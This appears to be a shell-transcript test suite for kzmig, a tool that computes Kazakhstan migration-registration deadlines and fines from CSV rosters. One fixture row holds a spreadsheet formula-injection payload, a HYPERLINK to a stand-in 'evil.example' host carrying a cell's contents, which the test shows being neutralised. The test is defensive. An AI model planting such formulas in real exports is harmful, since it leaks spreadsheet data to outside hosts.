# kzmig batch ROSTER.csv: one CSV row per person and deadline.  Most cases keep only
# arrival-notification (--only), the deadline whose rule is settled (Migration Law art. 6
# p. 4: within 3 working days; the arrival day is day 1 when it is a working day).
#
# A1 UZ Thu 20 Mar 2025: Thu 20 is day 1; Fri 21 (Nauryz), Sat 22, Sun 23, Mon 24 and
#    Tue 25 (Nauryz moved off the weekend) are off; Wed 26 day 2, Thu 27 day 3.
#    Today Fri 21 Mar: 6 days left.  Fine: 10 MCI (CAO 518 p. 1, small host) x 3,932
#    (MCI 2025) = 39,320 KZT.
# A2 CN Sun 1 Jun 2025: counting starts Mon 2; Mon, Tue, Wed -> Wed 4 Jun (75 days after
#    21 Mar: 10 + 30 + 31 + 4).
# A3 RU Mon 2 Jun 2025: Mon, Tue, Wed -> Wed 4 Jun.
$ kzmig batch tests/fixtures/rosters/basic.csv --only arrival-notification --today 2025-03-21
id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
A1,Aliya Nurova,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
A2,"Chen, Wei",CN,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
A3,Timur Ivanov,RU,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,

# --count-from next-day (Civil Code art. 173): A3 Mon 2 Jun -> Tue, Wed, Thu 5 Jun.
$ kzmig batch tests/fixtures/rosters/basic.csv --only arrival-notification --today 2025-03-21 --count-from next-day | grep '^A3'
A3,Timur Ivanov,RU,arrival-notification,,2025-06-05,76,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,

# A bad row is named by its line and skipped; the others still come out; exit 1.
# B5 KG Fri 27 Dec 2024: Fri 27, Mon 30, Tue 31 Dec; 80 days before 21 Mar 2025
# (Jan 31 + Feb 28 + 21); the fine uses the MCI of the first day late, Wed 1 Jan 2025.
$ kzmig batch tests/fixtures/rosters/bad-rows.csv --only arrival-notification --today 2025-03-21
id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
B1,Good One,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
kzmig: tests/fixtures/rosters/bad-rows.csv:3: arrival: no such date '2025-02-30' (expected a day 01..28)
kzmig: tests/fixtures/rosters/bad-rows.csv:4: citizenship: unknown country 'XX' (expected ISO 3166-1 alpha-2, e.g. UZ)
kzmig: tests/fixtures/rosters/bad-rows.csv:5: 3 cells (expected 4, as in the header)
B5,Good Two,KG,arrival-notification,,2024-12-31,-80,overdue,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
[exit 1]

# Cells a spreadsheet would run as formulas (= + - @, a leading tab) get a leading ',
# and RFC 4180 quoting where needed.  The host column overrides --host: an individual
# host gets a warning (no KZT), medium 15 MCI = 58,980, large 20 MCI = 78,640 (CAO 518
# p. 1 x 3,932).
$ kzmig batch tests/fixtures/rosters/formulas.csv --only arrival-notification --today 2025-03-21 --host large
id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
F1,"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")",UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,78640,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
F2,'+7 701 000 00 00,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
F3,'-Ivanov,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,58980,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
F4,'@SUM(A1:A9),UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,78640,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
'=F5,'	tab,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,78640,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,

# A UTF-8 BOM, CRLF line ends, columns in another order, an unknown column, a line break
# inside a quoted cell.  C1 TJ Fri 3 Jan 2025 (a day off by order): Sun 5 Jan is worked
# and is day 1, Mon 6 day 2, Tue 7 (Christmas) off, Wed 8 day 3.  C2 is a citizen of
# Kazakhstan (record on lines 3-4).  C3 BY Fri 27 Dec 2024 -> Tue 31 Dec.
$ kzmig batch tests/fixtures/rosters/crlf-bom.csv --only arrival-notification --today 2025-01-06
kzmig: tests/fixtures/rosters/crlf-bom.csv: columns not read: Faculty (they name no field; --column FIELD=HEADER maps one)
id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
C1,"Karimov, Rustam",TJ,arrival-notification,,2025-01-08,2,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
kzmig: tests/fixtures/rosters/crlf-bom.csv:3: citizenship: KZ: no migration rules apply to citizens of Kazakhstan
C3,"Anna ""Anya"" Petrova",BY,arrival-notification,,2024-12-31,-6,overdue,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
[exit 1]

# - reads stdin.
$ printf 'id,citizenship,arrival\nS1,uz,2025-06-01\n' | kzmig batch - --only arrival-notification --today 2025-06-04
id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
S1,,UZ,arrival-notification,,2025-06-04,0,due-today,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,

# JSON: one object per person per line (JSON Lines), person_json with "id" and "name".
$ kzmig batch tests/fixtures/rosters/basic.csv --only arrival-notification --today 2025-03-21 --format json | head -1
{"id":"A1","name":"Aliya Nurova","citizenship":"UZ","arrival":"2025-03-20","today":"2025-03-21","deadlines":[{"id":"arrival-notification","title":"Notify the migration service of the arrival","responsible":"receiving-party","event":"2025-03-20","opens":null,"due":"2025-03-27","apply_by":null,"days_left":6,"status":"upcoming","stay":"visa-free","provisional":false,"basis":"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival","where":"the host files on vmp.gov.kz (organisations) or in eQonaq (individuals, hotels)","reason":null,"fine":{"article":"CAO 518 part 1","on":"2025-03-28","host":"small","mci":10,"kzt":39320,"mci_value":3932,"provisional":false,"reason":null,"warning":false,"alternative":null,"repeat":{"article":"CAO 518 part 3","mci":40,"kzt":157280}}}]}
$ kzmig batch tests/fixtures/rosters/basic.csv --today 2025-03-21 --format json | jq -r '[.id, .name, (.deadlines | length > 0)] | @tsv'
A1	Aliya Nurova	true
A2	Chen, Wei	true
A3	Timur Ivanov	true

# --output: written beside the target and renamed into place; nothing else is left.
$ d=$(mktemp -d) && kzmig batch tests/fixtures/rosters/basic.csv --only arrival-notification --today 2025-03-21 --output "$d/due.csv"; echo "exit $?"; cat "$d/due.csv"; ls -A "$d"; rm -rf "$d"
exit 0
id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
A1,Aliya Nurova,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
A2,"Chen, Wei",CN,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
A3,Timur Ivanov,RU,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
due.csv

# Bad rows still give a file of the good ones (and exit 1).
$ d=$(mktemp -d) && kzmig batch tests/fixtures/rosters/bad-rows.csv --only arrival-notification --today 2025-03-21 --output "$d/due.csv" 2>/dev/null; echo "exit $?"; cut -d, -f1 "$d/due.csv"; ls -A "$d"; rm -rf "$d"
exit 1
id
B1
B5
due.csv

# An output folder that does not exist: one line, exit 1, no file.
$ kzmig batch tests/fixtures/rosters/basic.csv --today 2025-03-21 --output tests/fixtures/rosters/no-such-folder/due.csv; echo "exit $?"; ls tests/fixtures/rosters/no-such-folder
kzmig: tests/fixtures/rosters/no-such-folder/due.csv: cannot write there: No such file or directory (expected a file in an existing, writable folder)
exit 1
ls: cannot access 'tests/fixtures/rosters/no-such-folder': No such file or directory
[exit 2]

# A bad file is exit 2 with nothing on stdout, and --output is not created.
$ d=$(mktemp -d) && kzmig batch tests/fixtures/rosters/no-arrival.csv --output "$d/due.csv"; echo "exit $?"; ls -A "$d"; rm -rf "$d"
kzmig: tests/fixtures/rosters/no-arrival.csv:1: no column 'arrival' in the header (expected the columns id,citizenship,arrival and optionally name,birth,visa_expiry,passport_expiry,trp_expiry,entry,host,count_from,email,trips,moves)
exit 2
$ kzmig batch tests/fixtures/rosters/no-header.csv
kzmig: tests/fixtures/rosters/no-header.csv:1: no header row (expected a first row naming the columns: id,citizenship,arrival,...)
[exit 2]
$ kzmig batch tests/fixtures/rosters/empty.csv
kzmig: tests/fixtures/rosters/empty.csv: empty file (expected a header row: id,citizenship,arrival,...)
[exit 2]
$ kzmig batch tests/fixtures/rosters/no-such-roster.csv
kzmig: tests/fixtures/rosters/no-such-roster.csv: cannot open: No such file or directory (expected a readable CSV file)
[exit 2]

# A write error on stdout is exit 1.
$ kzmig batch tests/fixtures/rosters/basic.csv --today 2025-03-21 >/dev/full
kzmig: stdout: write error: No space left on device
[exit 1]

# Usage errors.
$ kzmig batch tests/fixtures/rosters/basic.csv --only arrival
kzmig: --only: unknown deadline 'arrival' (expected a comma-separated list of arrival-notification, self-registration, trp, stay-limit, visa-extension, passport-validity, passport-renewal)
[exit 2]
# A policy's id misspelt is refused too (it would keep nothing, and a cron job would stay
# silent for ever); the message lists the policy's ids.
$ kzmig batch tests/fixtures/rosters/basic.csv --policy examples/policy.json --only policy-passport-to-ofice
kzmig: --only: unknown deadline 'policy-passport-to-ofice' (expected a comma-separated list of arrival-notification, self-registration, trp, stay-limit, visa-extension, passport-validity, passport-renewal, policy-passport-to-office, policy-visa-extension-documents, policy-visa-extension-filing, policy-trp-documents, policy-departure-notice, policy-passport-renewal-notice)
[exit 2]
$ kzmig remind tests/fixtures/rosters/basic.csv --within 7 --policy examples/policy.json --only policy-trp-document
kzmig: --only: unknown deadline 'policy-trp-document' (expected a comma-separated list of arrival-notification, self-registration, trp, stay-limit, visa-extension, passport-validity, passport-renewal, policy-passport-to-office, policy-visa-extension-documents, policy-visa-extension-filing, policy-trp-documents, policy-departure-notice, policy-passport-renewal-notice)
[exit 2]
$ kzmig batch tests/fixtures/rosters/basic.csv --format xml
kzmig: --format: unknown value 'xml' (expected csv|json|ics|xlsx)
[exit 2]
$ kzmig batch
kzmig: batch: no roster (expected kzmig batch ROSTER.csv, or - for stdin)
[exit 2]
$ kzmig batch tests/fixtures/rosters/basic.csv --alarm 7,x --format ics
kzmig: --alarm: 'x' is not a whole number (expected 0..366)
[exit 2]

# A run that fails never touches the file already there: not a bad roster (exit 2) ...
$ d=$(mktemp -d) && echo old >"$d/due.csv" && kzmig batch tests/fixtures/rosters/no-header.csv --output "$d/due.csv" 2>/dev/null; echo "exit $?"; cat "$d/due.csv"; ls -A "$d"; rm -rf "$d"
exit 2
old
due.csv
# ... nor a write error half-way (files limited to 1 KiB, the output is ~15 KiB): the
# temporary file is removed, exit 1.
$ d=$(mktemp -d) && echo old >"$d/due.csv" && (trap '' XFSZ; ulimit -f 1; for i in $(seq 100); do echo "P$i,UZ,2025-03-20"; done | sed '1i id,citizenship,arrival' | kzmig batch - --only arrival-notification --today 2025-03-21 --output "$d/due.csv") 2>&1 | sed "s|$d|DIR|"; echo "exit ${PIPESTATUS[0]}"; cat "$d/due.csv"; ls -A "$d"; rm -rf "$d"
kzmig: DIR/due.csv: write error: File too large
exit 1
old
due.csv

# Each bad cell is named; an empty roster (a header only) is fine.
$ printf 'id,citizenship,arrival,host\nX1,UZ,1990-01-01,\nX2,U1,2025-01-01,\nX3,UZ,2025-01-01,big\n,UZ,2025-01-01,\nX5,UZ,,\n' | kzmig batch - --today 2025-01-01
id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
kzmig: stdin:2: arrival: 1990-01-01 is outside the days kzmig covers (expected 2002-03-01..2198-12-31)
kzmig: stdin:3: citizenship: 'U1' is not a country code (expected ISO 3166-1 alpha-2, e.g. UZ)
kzmig: stdin:4: host: unknown value 'big' (expected individual|small|medium|large)
X3,,UZ,arrival-notification,,2025-01-08,7,upcoming,receiving-party,,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,fine unknown: host: unknown value 'big' (expected individual|small|medium|large),
X3,,UZ,trp,,2025-01-30,29,upcoming,receiving-party,,"Law on Population Migration art. 6 p. 4 and art. 6-1: a TRP to stay past the visa-free limit (per entry from the crossing, and days within 180 over earlier trips); apply by allows 7 working days of processing, a time no official source confirms",2025-01-21,Obtain a temporary residence permit (TRP),false,fine unknown: host: unknown value 'big' (expected individual|small|medium|large),
kzmig: stdin:5: id: empty (expected the person's id)
kzmig: stdin:6: arrival: empty (expected the arrival date, YYYY-MM-DD)
[exit 1]
$ printf 'id,citizenship,arrival\r\n' | kzmig batch -
id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email

# iCalendar (out_ics.c): one all-day event per person and deadline; the same roster gives
# the same UIDs on every run, so a re-import updates instead of duplicating.
$ kzmig batch tests/fixtures/rosters/basic.csv --only arrival-notification --today 2025-03-21 --format ics | tr -d '\r' | grep -E '^(BEGIN:VEVENT|DTSTART)'
BEGIN:VEVENT
DTSTART;VALUE=DATE:20250327
BEGIN:VEVENT
DTSTART;VALUE=DATE:20250604
BEGIN:VEVENT
DTSTART;VALUE=DATE:20250604
$ a=$(kzmig batch tests/fixtures/rosters/basic.csv --today 2025-03-21 --format ics | grep ^UID); b=$(kzmig batch tests/fixtures/rosters/basic.csv --today 2025-01-01 --format ics | grep ^UID); [ -n "$a" ] && [ "$a" = "$b" ] && echo "same UIDs"
same UIDs

# Rosters as offices keep them: Excel's "CSV" in a Russian locale (';', a byte-order
# mark, CRLF, dates as DD.MM.YYYY, "UZ " and " ru" with spaces, "Small" and " LARGE "
# in any case) and a tab-separated text give, row for row, what the clean CSV gives; a
# name holding a comma is quoted on the way out.  The host's notices, by hand: S1 Thu
# 20 Mar (Nauryz 21-25) -> 27 Mar, moved Wed 2 Apr -> 2, 3, 4 Apr; S3 Mon 2 Jun ->
# Wed 4 Jun, moves Fri 20 Jun -> 20, 23, 24 Jun and Tue 1 Jul -> Thu 3 Jul; S4 Fri
# 10 Jan -> 10, 13, 14 Jan.
$ for f in office-excel-ru.csv office-tab.txt; do diff <(kzmig batch tests/fixtures/rosters/office.csv --today 2025-09-01) <(kzmig batch tests/fixtures/rosters/$f --today 2025-09-01) && diff <(kzmig batch tests/fixtures/rosters/office.csv --today 2025-09-01 --format json) <(kzmig batch tests/fixtures/rosters/$f --today 2025-09-01 --format json) && echo "$f: the same"; done
office-excel-ru.csv: the same
office-tab.txt: the same
$ kzmig batch tests/fixtures/rosters/office-excel-ru.csv --today 2025-09-01 --only arrival-notification | cut -d, -f1-7
id,name,citizenship,deadline,opens,due,days_left
S1,Aliya Nurova,UZ,arrival-notification,,2025-03-27,-158
S1,Aliya Nurova,UZ,arrival-notification,,2025-04-04,-150
S2,"Chen, Wei",CN,arrival-notification,,2025-08-27
S3,Timur Ivanov,RU,arrival-notification,,2025-06-04,-89
S3,Timur Ivanov,RU,arrival-notification,,2025-06-24,-69
S3,Timur Ivanov,RU,arrival-notification,,2025-07-03,-60
S4,Aigerim Sadykova,KG,arrival-notification,,2025-01-14,-230
# A date written DD.MM.YYYY that does not exist is named as it was written.
$ set -o pipefail; printf 'id;citizenship;arrival;birth\nA1;UZ;20.03.2025;30.02.2010\n' | kzmig batch - --today 2025-03-21 --only arrival-notification | cut -d, -f1-6
kzmig: stdin:2: birth: no such date '30.02.2010' (expected a day 01..28)
id,name,citizenship,deadline,opens,due
A1,,UZ,arrival-notification,,2025-03-27
[exit 1]
# Russian and Kazakh titles (kzmig.1 lists them): an office's own title of a field with
# --column; the columns no field takes are named once on stderr.  Without --column, the
# id column is not found.
$ kzmig batch tests/fixtures/rosters/office-ru-headers.csv --today 2025-03-21 --only arrival-notification
kzmig: tests/fixtures/rosters/office-ru-headers.csv:1: no column 'id' in the header (expected the columns id,citizenship,arrival and optionally name,birth,visa_expiry,passport_expiry,trp_expiry,entry,host,count_from,email,trips,moves)
[exit 2]
$ kzmig batch tests/fixtures/rosters/office-ru-headers.csv --column 'id=Студент №' --today 2025-03-21 --only arrival-notification | cut -d, -f1-6
kzmig: tests/fixtures/rosters/office-ru-headers.csv: columns not read: Факультет (they name no field; --column FIELD=HEADER maps one)
id,name,citizenship,deadline,opens,due
S1,Алия Нурова,UZ,arrival-notification,,2025-03-27
$ kzmig remind tests/fixtures/rosters/office-kk-headers.csv --column 'id=студент  №' --within 7 --today 2025-03-21
Migration deadlines from Fri 21 Mar 2025 to Fri 28 Mar 2025 (tests/fixtures/rosters/office-kk-headers.csv):

Thu 27 Mar 2025 (in 6 days)
  Әлия Нұрова (S1): Notify the migration service of the arrival; who: host; if missed: 10 MCI = 39,320 KZT (CAO 518 part 1, small host)

Not legal advice: check with the migration service.
$ kzmig batch tests/fixtures/rosters/basic.csv --column idd=x
kzmig: --column: 'idd=x' (expected FIELD=HEADER, FIELD one of id, citizenship, arrival, name, birth, visa_expiry, passport_expiry, email, host, trp_expiry, entry, count_from, trips, moves)
[exit 2]
$ printf 'id,citizenship,arrival,Birht Date\nA1,UZ,2025-03-20,2010-01-01\n' | kzmig batch - --today 2025-03-21
kzmig: stdin:1: column 'Birht Date' names no field but looks like birth (expected birth or one of its names in kzmig.1, or --column birth='Birht Date')
[exit 2]
# Errors at scale: after 20 rows with the same problem (the values aside), one line says
# how many more and where the first of them are; the rows' other deadlines are still
# written and the exit code still says rows failed.
$ set -o pipefail; (echo 'id,citizenship,arrival,birth'; for i in $(seq 1 30); do echo "A$i,UZ,20.03.2025,31.02.2001"; done; for i in $(seq 1 21); do echo "B$i,ZZ,2025-03-20,"; done) | kzmig batch - --today 2025-03-21 --only arrival-notification 2>&1 >/dev/null | tail -4
kzmig: stdin:50: citizenship: unknown country 'ZZ' (expected ISO 3166-1 alpha-2, e.g. UZ)
kzmig: stdin:51: citizenship: unknown country 'ZZ' (expected ISO 3166-1 alpha-2, e.g. UZ)
kzmig: stdin: 10 more rows (lines 22, 23, 24, 25, 26, ...): birth: no such date '...' (expected a day 01..28)
kzmig: stdin: 1 more row (line 52): citizenship: unknown country '...' (expected ISO 3166-1 alpha-2, e.g. UZ)
[exit 1]
# The formula guard only where a spreadsheet would run the cell: an id that is a plain
# number (+77011234567, -12) stays as typed; "+7 701 123" (a space is an operator in a
# formula), "-5 apples", "=1+1" and "+SUM(A1)" are guarded.
$ printf 'id,name,citizenship,arrival\n+77011234567,-5 apples,UZ,2025-03-20\n-12,=1+1,UZ,2025-03-20\n+7 701 123,+SUM(A1),UZ,2025-03-20\n' | kzmig batch - --today 2025-03-21 --only arrival-notification | cut -d, -f1-3
id,name,citizenship
+77011234567,'-5 apples,UZ
-12,'=1+1,UZ
'+7 701 123,'+SUM(A1),UZ
# Kazakh names keep every letter of the alphabet that Russian lacks (Ә Ғ Қ Ң Ө Ұ Ү Һ І),
# in CSV and in JSON.
$ kzmig batch tests/fixtures/rosters/kk-letters.csv --today 2025-03-21 --only arrival-notification | cut -d, -f2 | tail -5
Әсел Ғаниқызы
Қуаныш Ңұрлыбек
Өмірзақ Ұлықбек
Үміт Һадиева
Ісләм Әбдірахманов
$ kzmig batch tests/fixtures/rosters/kk-letters.csv --today 2025-03-21 --only arrival-notification --format json | jq -r .name | paste -sd' '
Әсел Ғаниқызы Қуаныш Ңұрлыбек Өмірзақ Ұлықбек Үміт Һадиева Ісләм Әбдірахманов
